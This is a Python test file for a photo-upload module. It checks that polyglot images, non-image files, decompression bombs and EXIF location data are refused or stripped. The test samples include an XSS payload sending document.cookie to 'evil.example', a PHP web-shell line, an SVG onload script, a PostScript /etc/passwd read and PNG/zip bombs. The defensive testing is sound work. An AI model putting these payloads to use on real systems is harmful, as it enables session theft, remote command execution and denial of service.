"""Files made to do harm: none gets through as it came, none costs more than a moment, none raises what is not told."""

import io
import resource
import struct
import time
import zipfile
import zlib
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as trials
from hypothesis import strategies as st
from PIL import Image
from pytest_django.fixtures import Settings

from huying.kernel.photos import PhotoRefused, stored, take_up

pytestmark = pytest.mark.once
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script><?php system($_GET['c']); ?>"


@pytest.fixture(autouse=True)
def store(settings: Settings, tmp_path: Path) -> Path:
    """An empty store of its own."""
    settings.PHOTOS = tmp_path / "photos"
    return tmp_path / "photos"


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, pixels: bytes, *more: bytes) -> bytes:
    """A PNG of one bit a pixel, with chunks of one's own before the pixels."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("payload.html", SCRIPT)
    return out.getvalue()


POLYGLOTS = {
    "a picture with a page behind it": picture() + b"<html>" + SCRIPT,
    "a picture that is an archive too": picture() + archive(),
    "a PNG with a page behind its end": picture("PNG") + SCRIPT,
    "a WebP with a page behind its end": picture("WEBP") + SCRIPT,
    "a script in the comment": picture(comment=SCRIPT),
    "a script in XMP": picture(xmp=b"<x>" + SCRIPT + b"</x>"),
    "a script in a PNG chunk": png(8, 1, zlib.compress(b"\0\xff"), chunk(b"tEXt", b"Title\0" + SCRIPT)),
    "a script in an unknown chunk": png(8, 1, zlib.compress(b"\0\xff"), chunk(b"haRm", SCRIPT)),
    "a script for a colour profile": picture("PNG", icc_profile=SCRIPT * 4),
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_what_is_two_things_at_once_is_a_picture_alone_afterwards(what: str) -> None:
    taken = take_up("lamp.jpg", POLYGLOTS[what])
    for small in (False, True):
        body = stored(taken.sha256, small).read_bytes()
        for sign in (b"<script", b"<?php", b"<html", b"PK\x03\x04", b"evil.example"):
            assert sign not in body
        Image.open(io.BytesIO(body)).verify()


def test_where_it_was_taken_is_in_no_byte_of_it() -> None:
    exif = Image.Exif()
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (29.0, 33.0, 47.123), "E", (106.0, 27.0, 12.456)
    exif[0x010F], exif[0x0110] = "SecretMaker", "SecretModel"
    for kind in ("JPEG", "PNG", "WEBP"):
        before = picture(kind, exif=exif.tobytes())
        assert Image.open(io.BytesIO(before)).getexif().get_ifd(0x8825)  # the picture really says so
        body = stored(take_up("lamp", before).sha256).read_bytes()
        found = Image.open(io.BytesIO(body))
        assert not found.getexif() and not found.getexif().get_ifd(0x8825) and b"Secret" not in body and b"Exif" not in body


NO_PICTURES = {
    "a page": b"<!doctype html>" + SCRIPT,
    "a drawing with a script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a page that begins like a GIF": b"GIF89a/*" + SCRIPT + b"*/",
    "a program": b"\x7fELF" + bytes(200),
    "an archive": archive(),
    "PostScript, which runs": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    "a document": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>",
    "a TIFF": b"II*\0\x08\0\0\0" + bytes(60),
    "a BMP": picture("BMP"),
    "an icon": picture("ICO"),
    "nothing but a signature": b"\xff\xd8\xff\xe0",
    "a signature and then a page": b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "RIFF that is no WebP": b"RIFF\x24\0\0\0WAVEfmt ",
}


@pytest.mark.parametrize("what", NO_PICTURES)
def test_what_is_no_picture_is_refused_whatever_it_is_called(what: str, store: Path) -> None:
    with pytest.raises(PhotoRefused):
        take_up("lamp.jpg", NO_PICTURES[what])
    assert not [path for path in store.rglob("*") if path.is_file()]


def zeros(count: int) -> bytes:
    """Very many zeros in very few bytes, never held all at once."""
    packer, piece = zlib.compressobj(9), bytes(1 << 20)
    packed = [packer.compress(piece) for _ in range(count // len(piece))]
    return b"".join([*packed, packer.compress(bytes(count % len(piece))), packer.flush()])


BOMBS = {
    "three billion pixels": png(55_000, 55_000, zeros(1 << 20)),
    "as many as a header can say": png(2**31 - 1, 2**31 - 1, zlib.compress(b"\0")),
    "one line of very many": png(2**31 - 1, 1, zlib.compress(b"\0")),
    "a text that unpacks to 200 MB": png(8, 1, zlib.compress(b"\0\xff"), chunk(b"zTXt", b"a\0\0" + zeros(200 << 20))),
    "a profile that unpacks to 200 MB": png(8, 1, zlib.compress(b"\0\xff"), chunk(b"iCCP", b"a\0\0" + zeros(200 << 20))),
    "a small picture with pixels for a large one": png(8, 1, zeros(200 << 20)),
}


@pytest.mark.parametrize("what", BOMBS)
def test_a_bomb_costs_neither_memory_nor_time(what: str) -> None:
    data = BOMBS[what]
    assert len(data) < 10 * 1024 * 1024
    began, before = time.process_time(), most_memory()
    try:
        taken = take_up("bomb.png", data)
        assert (taken.width, taken.height) == (8, 1)  # what it says it is, and no more of it was read
    except PhotoRefused:
        pass
    spent, more = time.process_time() - began, most_memory() - before
    assert more < 100 and spent < 3, f"{more} MB more, {spent:.1f} s"


def most_memory() -> int:
    """MB this process ever held: what C libraries took is counted too."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024


def test_of_a_moving_picture_the_first_is_kept() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), (n * 9, 0, 0)) for n in range(20)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    body = stored(take_up("lamp.webp", out.getvalue()).sha256).read_bytes()
    assert getattr(Image.open(io.BytesIO(body)), "n_frames", 1) == 1


SOUND = {kind: picture(kind) for kind in ("JPEG", "PNG", "WEBP")}


@trials(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kind=st.sampled_from(sorted(SOUND)), a=st.integers(0, 4000), b=st.integers(0, 60), piece=st.binary(max_size=30))
def test_a_damaged_picture_is_taken_up_or_refused_never_anything_else(kind: str, a: int, b: int, piece: bytes) -> None:
    at = a % len(SOUND[kind])
    data = SOUND[kind][:at] + piece + SOUND[kind][at + b :]
    with suppress(PhotoRefused):
        assert stored(take_up("lamp", data).sha256).exists()


@trials(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    head=st.sampled_from([b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x40\0\0\0WEBPVP8 "]), body=st.binary(max_size=200)
)
def test_any_bytes_at_all(head: bytes, body: bytes) -> None:
    with suppress(PhotoRefused):
        take_up("lamp", head + body)
